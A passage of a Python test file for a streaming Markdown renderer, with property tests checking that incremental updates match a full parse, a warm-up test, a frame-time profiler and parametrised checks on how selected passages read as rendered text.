    gc.collect()
    for n in texts:
        assert n.children == () and (n.offsets is None or (type(n.offsets) is tuple and not gc.is_tracked(n.offsets)))


def test_warm_up_loads_what_a_first_answer_needs():
    import markdown_code
    import markdown_render
    steps = markdown_render.warm_up_steps(("python", "rust"))
    assert len(steps) > 3
    markdown_render.warm_up(("python", "rust"))
    assert markdown_code._LEXERS["python"] is not None and markdown_code._LEXERS["rust"] is not None
    assert "latex2mathml.converter" in sys.modules


def profile_stream(tokens=8000, per_frame=4):
    """CPU time per frame (process_time) of streaming the bench's md=1 answer through md_view with a fake DOM:
    `python tests/test_web_markdown.py [tokens]` prints first/p50/p99/max frame and the final `show`."""
    import time
    import markdown_render
    if hasattr(markdown_render, "warm_up"):
        markdown_render.warm_up()
    pieces = bench_md_tokens(tokens)
    view = md_view_module().MarkdownBody(body())
    parts, costs = [], []
    for i in range(0, tokens, per_frame):
        parts.extend(pieces[i:i + per_frame])
        t = time.process_time()
        view.update("".join(parts))  # message_view joins the parts, md_view renders
        costs.append(time.process_time() - t)
    t = time.process_time()
    view.show("".join(pieces), [])
    end = time.process_time() - t
    s = sorted(costs)
    ms = [round(x * 1000, 2) for x in (costs[0], s[len(s) // 2], s[int(len(s) * 0.99)], s[-1], end)]
    print("tokens={} frames={} first={}ms p50={}ms p99={}ms max={}ms end={}ms".format(tokens, len(costs), *ms))
    return costs, end


if __name__ == "__main__":
    profile_stream(int(sys.argv[1]) if len(sys.argv) > 1 else 8000)


VOCAB = ["word", "Word", " ", " ", "  ", "\n", "\n\n", ".", ",", "!", "?", "'", '"', "-", "~", "~~", "*", "**", "_",
         "`", "$", "[", "]", "(", ")", ":", "//", "@", "www", "www.", "example", "com", "1.", "1", "#", ">", "|",
         "=", "&amp;", "\\", "é", "中文", "🙂", "http", "Title\n===\n", "- item", "```py\n", "\t", "%", "/", "^", "+"]


def assert_same_blocks(got, want, source) -> None:
    """`got` and `want` are the same blocks (kinds, spans, texts, trees); `source` names the failing text."""
    assert [(b.kind, b.start, b.end, b.text, b.last) for b in got] == \
        [(b.kind, b.start, b.end, b.text, b.last) for b in want], repr(source[-200:])
    assert [b.node for b in got] == [b.node for b in want], repr(source[-200:])


def check_stream_equals_full_parse(tokens, reference=None) -> int:
    """Stream `tokens` one at a time: after each, the blocks equal a parse of the whole text from scratch (or, with
    `reference`, what `reference(source)` returns). Returns how many updates took the no-parse path
    (markdown_append.extend_paragraph)."""
    stream, source, unparsed = MarkdownStream(), "", 0
    for token in tokens:
        source += token
        got = stream.update(source)
        unparsed += stream.parsed_chars == 0
        want = reference(source) if reference else render_blocks(source)
        assert_same_blocks(got, want, source)
    return unparsed


def stream_without(shortcut, answer):
    """A MarkdownStream's `update` with one of its shortcuts (a markdown_render function) turned off: while it
    updates, the function answers `answer` whatever it is asked."""
    import markdown_render
    stream = MarkdownStream()

    def update(source):
        saved = getattr(markdown_render, shortcut)
        setattr(markdown_render, shortcut, lambda *args: answer)
        try:
            return stream.update(source)
        finally:
            setattr(markdown_render, shortcut, saved)
    return update


def parsing_stream():
    """A MarkdownStream's `update` with the no-parse path turned off: every update parses its tail."""
    return stream_without("extend_paragraph", None)


def test_words_added_to_a_paragraph_render_as_a_parse_would():
    """The no-parse path for words appended to the open paragraph gives exactly the blocks a parse gives: on the
    benchmark's plain and Markdown-heavy streams (= a full parse from scratch) and on random streams of Markdown's
    special characters (= the same stream parsing its tail at every update)."""
    plain = [f"~{1732461234 + i}.123456~ " for i in range(200)]  # the benchmark's plain tokens
    assert check_stream_equals_full_parse(plain) >= 195  # almost every token of plain text is not parsed
    assert check_stream_equals_full_parse(bench_md_tokens(300)) >= 40
    rng = random.Random(7)
    unparsed = 0
    for _ in range(40):
        unparsed += check_stream_equals_full_parse([rng.choice(VOCAB) for _ in range(150)], parsing_stream())
    assert unparsed >= 50  # the random streams did go through the no-parse path


def test_an_open_paragraph_inline_parsed_in_two_parts_renders_as_the_whole():
    """A long open paragraph is inline-parsed from its last cut on (markdown_inline: the text before the cut left no
    delimiter, bracket, code span or formula open and is parsed once): at every update the blocks equal a parse of
    the whole text from scratch, on random streams of words and Markdown's inline characters. (They found two
    older bugs: a lone backtick after the last block's span changes the whole block, checked here first, and
    blanks after a `~~` that ends a text node were taken for plain words by the no-parse path.)"""
    check_stream_equals_full_parse(["[a ~~b ", "`c` ]", "`"])
    rng = random.Random(5)
    inline = [t for t in VOCAB if "\n\n" not in t and t not in ("Title\n===\n", "- item", "```py\n")]
    vocab = inline + ["word ", "more words ", " ", " ", "**bold** ", "`code` ", "_em_ ", "[a](https://e.x) ",
                      "$x$ ", "\\(y\\) ", "x_y ", "~~s~~ ", "1 < 2 ", "&amp; ", "\\* "] * 3
    kept = 0
    for _ in range(30):
        stream, source = MarkdownStream(), ""
        for _ in range(200):
            source += rng.choice(vocab)
            got = stream.update(source)
            kept += len(stream.inline.text) > 0 and stream.parsed_chars > 0
            want = render_blocks(source)
            assert_same_blocks(got, want, source)
    assert kept > 300  # the kept part was in use


def test_a_block_closed_by_a_blank_line_is_not_parsed_again():
    """When a blank line closed the block before the last one for good (markdown_render._settled), the parse starts
    at the last block: on the benchmark's Markdown stream and on random streams of Markdown's special characters and
    block starts (code fences among them: an open fence is parsed alone too), every update gives the blocks of a
    stream that parses the last two blocks."""
    def parsed_alone(tokens):
        stream, source, alone = MarkdownStream(), "", 0
        reference = stream_without("_settled", False)  # parses the last two blocks
        for token in tokens:
            source += token
            got, want = stream.update(source), reference(source)
            alone += stream.reparsed == 1 and stream.parsed_chars > 0
            assert_same_blocks(got, want, source)
        return alone

    assert parsed_alone(bench_md_tokens(400)) > 100
    rng = random.Random(11)
    vocab = VOCAB + ["\n\n", "\n\n", "    code", "\n\n- ", "\n\n> ", "\n\n| a |\n|---|\n", "\n\n[r]: https://e.x\n",
                     "[x][r]", "\n\n$$\n", "$$\n\n", "\n```\n", "\n---\n", "\n===\n", "  ", "\n```py\n", "\n~~~\n",
                     "\n   ```\n", "\n- a\n```\n", "```", "`", "\n````\n", "\n> ```\n"]
    alone = sum(parsed_alone([rng.choice(vocab) for _ in range(150)]) for _ in range(40))
    assert alone > 200


@pytest.mark.parametrize("src,selected,seen", [
    ("Intro with **bold phrase here** end.", "with **bold phrase", "with bold phrase"),
    ("| a | b |\n|---|---|\n| alpha | cell beta |\n", "alpha | cell beta", "alpha cell beta"),
    ("Use `x = 1` now.", "`x = 1` now", "x = 1 now"),
    ("one two\n\nthree four", "two\n\nthree", "two three"),
    ("- item one\n- item two\n", "one\n- item", "one item"),
    ("A [link text](https://example.org) here", "[link text](https://example.org) here", "link text here"),
    ("plain words only", "words", "words"),
    ("the energy $E = mc^2$ held", "energy $E = mc^2$ held", "energy E = mc^2 held"),
    ("so \\(a+b\\) and", "\\(a+b\\) and", "a+b and"),
])
def test_a_passage_reads_as_the_rendered_text(src, selected, seen):
    """A pin's passage as the reader saw it: the rendered text of the source range, no Markdown syntax; a space
    where the source between two runs holds one (a table's cell border, a new block or item)."""
    start = src.index(selected)
    assert passage_text(src, start, start + len(selected)) == seen
